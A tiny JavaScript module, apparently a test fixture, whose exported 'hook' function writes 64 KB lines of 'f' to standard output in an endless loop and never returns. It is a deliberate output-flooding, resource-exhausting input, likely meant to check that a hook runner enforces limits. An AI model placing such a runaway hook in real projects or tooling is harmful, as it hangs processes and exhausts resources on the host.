import * as fs from "node:fs";

export default function hook(ctx) {
  const line = "f".repeat(65_536);
  for (;;) fs.writeSync(1, line);
}
